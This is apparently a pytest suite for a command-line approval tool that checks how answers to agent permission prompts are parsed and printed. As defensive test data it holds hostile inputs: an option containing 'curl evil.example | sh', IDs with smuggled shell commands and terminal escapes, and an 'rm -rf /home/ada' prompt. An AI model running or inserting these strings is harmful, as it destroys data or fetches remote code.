"""Approvals in the terminal: asked where a person is, served where none is; and messages to an agent at work."""

from __future__ import annotations

import asyncio
import json
import os
import re
import shlex
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from quarterdeck.cli import acting, exits, failures
from quarterdeck.cli.errors import Refused
from quarterdeck.cli.plain_text import escaped
from quarterdeck.cli.questions import command_text, meant
from quarterdeck.domain.ids import MessageId, RequestId, RunId, SlotId
from quarterdeck.domain.permissions import ALLOW_FOR_RUN
from quarterdeck.domain.refusal import Code, Refusal
from quarterdeck.domain.views import AnsweredView, MessageView, RunView
from tests.cli.builders import RUN, attempt, ended, moment, question, run_view, slot
from tests.cli.call import desk
from tests.cli.fake_door import FakeDoor
from tests.cli.real import command, python, quarterdeck, running, wait_until, workflow
from tests.cli.test_supervise import asking, door_with, keyboard, live, supervised

__all__ = ["keyboard"]


def slot_of(run: Any, node: str) -> Any:
    return next(one for one in run["slots"] if one["node_id"] == node)


PERMISSION = ("Deny", "Allow once")

A1 = "a-" + "1" * 32

SWAPS = """
import json, sys
def say(**line): print(json.dumps(line), flush=True)
say(type="approval", id="q1", question="echo hello", options=["Deny", "Allow once"])
open("GATE").close()
say(type="approval", id="q1", question="rm -rf /home/ada", options=["Deny", "Allow once"])
say(type="output", value=json.loads(sys.stdin.readline())["answer"])
"""
ASKS_AGAIN = """
import json, sys
def say(**line): print(json.dumps(line), flush=True)
given = []
for number in range(3):
    say(type="approval", id=f"q{number}", question="git push", options=["Deny", "Allow once"])
    given.append(json.loads(sys.stdin.readline())["answer"])
say(type="output", value=given)
"""
LISTENS = """
import json, sys
def say(**line): print(json.dumps(line), flush=True)
say(type="session", id="s", resumable=False, messages=True)
say(type="output", value=json.loads(sys.stdin.readline()))
"""


async def test_what_is_typed_within_half_a_second_of_a_question_does_not_answer_it(
    keyboard: tuple[int, int],
) -> None:
    door = door_with(asking("yes", "no"))
    door.on_command["answer"] = lambda *_: door.move(ended(live("Done")))
    told = desk(door, is_terminal=True, stdin_fd=keyboard[1])

    async def play() -> None:
        await told.wait_said("prod?")
        os.write(keyboard[0], b"yes\n")
        await told.wait_said("Answer (1–2):")
        os.write(keyboard[0], b"no\n")

    await supervised(told, play())
    assert door.asked[1][-1] == "no"


async def test_enter_alone_answers_nothing_in_the_terminal(keyboard: tuple[int, int]) -> None:
    door = door_with(asking(*PERMISSION))
    door.on_command["answer"] = lambda *_: door.move(ended(live("Done")))
    told = desk(door, is_terminal=True, stdin_fd=keyboard[1])

    async def play() -> None:
        await told.wait_said("Answer (1–3):")
        os.write(keyboard[0], b"\n\nallow\n")  # which of the two is meant is not said
        while told.err.text.count("Type the number") < 3:
            await asyncio.sleep(0.01)
        assert [one[0] for one in door.asked] == ["launch"]
        os.write(keyboard[0], b"3\n")

    await supervised(told, play())
    assert door.asked[1][-1] == ALLOW_FOR_RUN


async def test_an_answer_that_the_disk_did_not_take_is_asked_for_again(keyboard: tuple[int, int]) -> None:
    door = door_with(asking("yes", "no"))
    door.refusals["answer"] = Refusal(Code.E_STORE, "The disk takes nothing now.")
    door.on_command["answer"] = lambda *_: door.move(ended(live("Done")))
    told = desk(door, is_terminal=True, stdin_fd=keyboard[1])

    async def play() -> None:
        await told.wait_said("Answer (1–2):")
        os.write(keyboard[0], b"yes\n")
        await told.wait_said("takes nothing")
        door.refusals.clear()
        while told.err.text.count("Answer (1–2):") < 2:
            await asyncio.sleep(0.01)
        os.write(keyboard[0], b"yes\n")

    assert await supervised(told, play()) == exits.DONE
    assert [one[0] for one in door.asked] == ["launch", "answer", "answer"]


async def test_where_network_and_writes_are_said_with_the_question_as_far_as_they_were_told() -> None:
    one = replace(question("n0", "git push", *PERMISSION), where="/srv/\x1b[2J", network="github.com")
    door = door_with(run_view(slot("n0", "Needs you", attempt(), approvals=(one,))))
    told = desk(door)
    await supervised(told, told.wait_said("quarterdeck answer"), door.move(ended(live("Done"))))
    assert "where: /srv/\\x1b[2J" in told.err.text
    assert "network: github.com" in told.err.text
    assert "writes" not in told.err.text
    assert f"3. {ALLOW_FOR_RUN}" in told.err.text


async def test_allow_for_this_run_is_a_choice_of_the_verb_answer() -> None:
    asked = question("lint", "git push", *PERMISSION)
    door = FakeDoor(run_view(slot("lint", "Needs you", attempt(), approvals=(asked,))))
    assert await acting.answer(desk(door).call, "r-1", "lint", "allow for THIS run") == exits.DONE
    assert door.asked == [("answer", RUN, asked.request_id, ALLOW_FOR_RUN)]


def _answered() -> RunView:
    asked = question("lint", "git push", *PERMISSION)
    said = AnsweredView(asked.request_id, "Deny", "ana", moment(3))
    return run_view(slot("lint", "Running", attempt(), answers=(said,)))


@pytest.mark.parametrize(
    ("view", "request_", "words"),
    [
        (_answered(), "q1", "answered “Deny” by ana already"),
        (
            run_view(slot("lint", "Running", attempt())),
            f"a-{'1' * 32}:q1",
            "something else came in its place",
        ),
        (run_view(slot("lint", "Running", attempt())), "q9", "open now: none"),
    ],
)
async def test_the_verb_answer_explains_a_stale_answer_with_exit_5(
    view: RunView, request_: str, words: str
) -> None:
    door = FakeDoor(view)
    told = desk(door)
    with pytest.raises(Refused) as refused:
        await acting.answer(told.call, "r-1", request_, "Allow once")
    assert failures.tell(told.call.console, refused.value) == exits.REFUSED
    assert words in told.err.text
    assert door.asked == []


def _asks(*own_ids: str) -> RunView:
    open_now = tuple(
        replace(question("lint", f"What {own}?", *PERMISSION), request_id=RequestId(f"{A1}:{own}"))
        for own in own_ids
    )
    return run_view(slot("lint", "Needs you", attempt(), approvals=open_now))


@pytest.mark.parametrize(
    ("given", "open_now"),
    [
        (f"{A1}:q1", ("q1@4",)),
        (f"{A1}:q1", ("q10",)),
        (f"{A1}:q1", (f"{A1}:q1",)),
        ("a-1111:q1", ("q10",)),
        ("q1", ("q10",)),
        ("lint", ("q1", "q2")),
        ("a-1111", ("q1", "q2")),
        ("a-1", ("q1",)),
    ],
)
async def test_an_id_answers_no_question_that_begins_alike(given: str, open_now: tuple[str, ...]) -> None:
    """Case 122: what was printed for one question approves no other, whatever id the agent gives it."""
    door = FakeDoor(_asks(*open_now))
    told = desk(door)
    with pytest.raises(Refused) as refused:
        await acting.answer(told.call, "r-1", given, "Allow once")
    assert failures.tell(told.call.console, refused.value) == exits.REFUSED
    assert door.asked == []
    assert all(f"{A1}:{own}" in told.err.text for own in open_now), "what is open is said"


@pytest.mark.parametrize("given", [f"{A1}:q10", "a-1111:q10", "q10", "lint", "a-1111"])
async def test_an_answer_says_which_question_it_answered(given: str) -> None:
    door = FakeDoor(_asks("q10"))
    told = desk(door)
    assert await acting.answer(told.call, "r-1", given, "Deny") == exits.DONE
    assert door.asked == [("answer", RUN, f"{A1}:q10", "Deny")]
    assert "Answered 'Deny' to Lint, who asked: What q10?" in told.err.text


async def test_the_name_of_a_node_is_never_the_own_id_of_another_agents_question() -> None:
    """Case 122: an agent that calls its question as another node is called gets no answer that is meant for that node."""
    door = FakeDoor(replace(_asks("gate"), slots=(*_asks("gate").slots, slot("gate"))))
    with pytest.raises(Refused):
        await acting.answer(desk(door).call, "r-1", "gate", "Allow once")
    assert door.asked == []


def test_a_printed_command_approves_nothing_that_is_asked_later_under_the_same_id(tmp_path: Path) -> None:
    """Case 122: by the real programs; the second question has other bytes."""
    os.mkfifo(gate := tmp_path / "gate")
    path = workflow(tmp_path, a=python(SWAPS.replace("GATE", str(gate))))
    with running(tmp_path, "run", path, "--json") as run:
        run.wait_said(" CHOICE`")
        gate.open("w").close()
        wait_until(lambda: run.said.count(" CHOICE`") == 2)
        first, second = re.findall(r"`quarterdeck answer (\S+) (\S+) CHOICE`", run.said)
        stale = quarterdeck("answer", *first, "Allow once")
        assert stale.returncode == exits.REFUSED
        assert b"something else came in its place" in stale.stderr
        assert quarterdeck("answer", *second, "Deny").returncode == 0
        assert run.ended() == 0
    assert slot_of(run.document(), "a")["attempts"][0]["output"] == "Deny"


@pytest.mark.parametrize("own", ["q; touch X #", "q'\"`$(id)", "q\x1b[31m\n", "q\u202e"])
def test_a_printed_command_is_one_command_whatever_an_id_holds(own: str) -> None:
    """Case 122: pasted into a shell it starts nothing else, and nothing in it controls the terminal."""
    (asked,) = _asks(own).slots[0].approvals
    told = command_text(asked)
    line, below = told.split("\n")
    printed = line.removeprefix("Answer it with `").removesuffix(" CHOICE`.")
    assert shlex.split(printed) == ["quarterdeck", "answer", RUN, escaped(asked.request_id)]
    assert line == escaped(line)
    assert below == "Choices: " + " | ".join(map(escaped, asked.choices))


def test_an_option_s_words_stand_in_no_line_with_a_command() -> None:
    """Case 122: such words could else be read, and pasted, as a part of it."""
    option = "yes`; curl evil.example | sh\n`quarterdeck answer r-1 q no"
    (asked,) = _asks("q").slots[0].approvals
    first, below = command_text(replace(asked, options=(option,))).split("\n")
    assert "evil" not in first
    assert below.startswith("Choices: yes`; curl")


def test_a_command_that_was_printed_for_an_id_with_a_shell_command_in_it_answers_and_runs_nothing(
    tmp_path: Path,
) -> None:
    """By the real programs: the shell gets what a person would paste."""
    code = ASKS_AGAIN.replace('f"q{number}"', f'f"q{{number}}; touch {tmp_path}/ran #\\x1b[31m"')
    with running(tmp_path, "run", workflow(tmp_path, a=python(code)), "--json") as run:
        run.wait_said(" CHOICE`")
        assert "\x1b" not in run.said
        found = re.search(r"`quarterdeck (answer .*) CHOICE`", run.said)
        assert found is not None
        pasted = f"{shlex.join(command())} {found[1]} '{ALLOW_FOR_RUN}'"
        assert subprocess.run(["/bin/sh", "-c", pasted], check=False, timeout=60).returncode == 0
        assert run.ended() == 0
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("options", "given", "chosen"),
    [
        (("Deny", "Allow once\u202e"), "Allow once\\u202e", "Allow once\u202e"),
        (("Deny", "Allow once\u202e"), "allow ONCE\\u202e", "Allow once\u202e"),
        (("no", "yes\n"), "yes\\n", "yes\n"),
        (("Yes\u202e", "Yes\\u202e"), "Yes\\u202e", None),
        (("YES", "yes"), "Yes", None),
        (("YES", "yes"), "yes", "yes"),
    ],
)
async def test_a_choice_is_taken_as_it_is_shown_and_where_two_are_shown_alike_neither(
    options: tuple[str, ...], given: str, chosen: str | None
) -> None:
    asked = question("lint", "Go?", *options)
    door = FakeDoor(run_view(slot("lint", "Needs you", attempt(), approvals=(asked,))))
    told = desk(door)
    if chosen is None:
        with pytest.raises(Refused) as refused:
            await acting.answer(told.call, "r-1", "lint", given)
        failures.tell(told.call.console, refused.value)
        assert "several options" in told.err.text
        assert door.asked == []
    else:
        assert await acting.answer(told.call, "r-1", "lint", given) == exits.DONE
        assert door.asked == [("answer", RUN, asked.request_id, chosen)]


@pytest.mark.parametrize(
    ("options", "typed", "fitting"),
    [
        (("Allow", "3", "Deny"), "3", ["3", "Deny"]),
        (("Allow", "3", "Deny"), "3.", ["Deny"]),
        (("Allow", "3", "Deny"), "2", ["3"]),
        (("Allow", "3", "Deny"), "4", []),
        (("2", "1"), "1", ["2", "1"]),
        (("2", "1"), "1.", ["2"]),
        (("1", "2"), "2", ["2"]),
        (("Deny", "Allow once\u202e"), "allow once\\u202e", ["Allow once\u202e"]),
        (("Deny", "Allow"), "al", ["Allow"]),
        (("Deny", "Allow"), "", []),
        (("Deny", "Allow"), "0", []),
        (("Deny", "Allow"), "9" * 5000, []),
    ],
)
def test_a_number_that_is_the_text_of_another_option_is_no_answer(
    options: tuple[str, ...], typed: str, fitting: list[str]
) -> None:
    assert meant(replace(question("lint", "Go?", *options), attempt_id=None), typed) == fitting


async def test_what_could_mean_two_options_is_refused_in_words(keyboard: tuple[int, int]) -> None:
    door = door_with(asking("Approve", "3", "Reject"))
    door.on_command["answer"] = lambda *_: door.move(ended(live("Done")))
    told = desk(door, is_terminal=True, stdin_fd=keyboard[1])

    async def play() -> None:
        await told.wait_said("Answer (1–3):")
        os.write(keyboard[0], b"3\n")
        await told.wait_said("could mean 2. 3, or 3. Reject")
        assert [one[0] for one in door.asked] == ["launch"]
        os.write(keyboard[0], b"3.\n")

    await supervised(told, play())
    assert door.asked[1][-1] == "Reject"


@pytest.mark.parametrize(("delivered", "words"), [(True, "Lint was told."), (False, "did not take it")])
async def test_say_tells_whether_the_program_took_the_message(delivered: bool, words: str) -> None:
    door = FakeDoor(run_view(slot("lint", "Running", attempt())))

    async def take(run: RunId, node: SlotId, text: str) -> None:
        sent = MessageView(MessageId("m-1"), text, "you", moment(3), delivered)
        await door.move(run_view(slot("lint", "Running", attempt(messages=(sent,)))))

    door.on_command["say"] = take
    told = desk(door)
    assert await acting.say(told.call, "r-1", "lint", "Look into docs/ too.") == exits.DONE
    assert door.asked == [("say", RUN, "lint", "Look into docs/ too.")]
    assert words in told.err.text


def test_without_a_terminal_run_stays_and_serves_an_answer_for_the_whole_run(tmp_path: Path) -> None:
    with running(tmp_path, "run", workflow(tmp_path, a=python(ASKS_AGAIN)), "--json") as run:
        run.wait_said("quarterdeck answer")
        found = re.search(r"`quarterdeck answer (\S+) (\S+) CHOICE`", run.said)
        assert found is not None
        assert quarterdeck("answer", *found.groups(), ALLOW_FOR_RUN).returncode == 0
        assert run.ended() == 0
        assert run.said.count("quarterdeck answer") == 1, "what was answered for the run asks nobody"
    told = slot_of(run.document(), "a")
    assert told["attempts"][0]["output"] == ["Allow once"] * 3
    assert [one["because"] is None for one in told["answers"]] == [True, False, False]


def test_a_message_reaches_the_agent_of_another_process_and_is_recorded(tmp_path: Path) -> None:
    with running(tmp_path, "run", workflow(tmp_path, a=python(LISTENS)), "--json", "--events") as run:

        def is_listening() -> bool:
            return b'"type":"session"' in run.out.read_bytes()

        wait_until(is_listening)
        identity = str(_first_event(run.out)["run"])
        assert quarterdeck("say", identity, "a", "Look into docs/ too.").returncode == 0
        assert run.ended() == 0
    shown = quarterdeck("show", identity, "--json")
    assert shown.returncode == 0
    (tried,) = slot_of(json.loads(shown.stdout), "a")["attempts"]
    assert tried["output"] == {"type": "message", "text": "Look into docs/ too."}
    (said,) = tried["messages"]
    assert (said["text"], said["delivered"]) == ("Look into docs/ too.", True)
    late = quarterdeck("say", identity, "a", "Too late", "--json")
    assert late.returncode == exits.REFUSED


def _first_event(out: Path) -> dict[str, Any]:
    line = out.read_text().splitlines()[0]
    found: dict[str, Any] = json.loads(line)
    return found
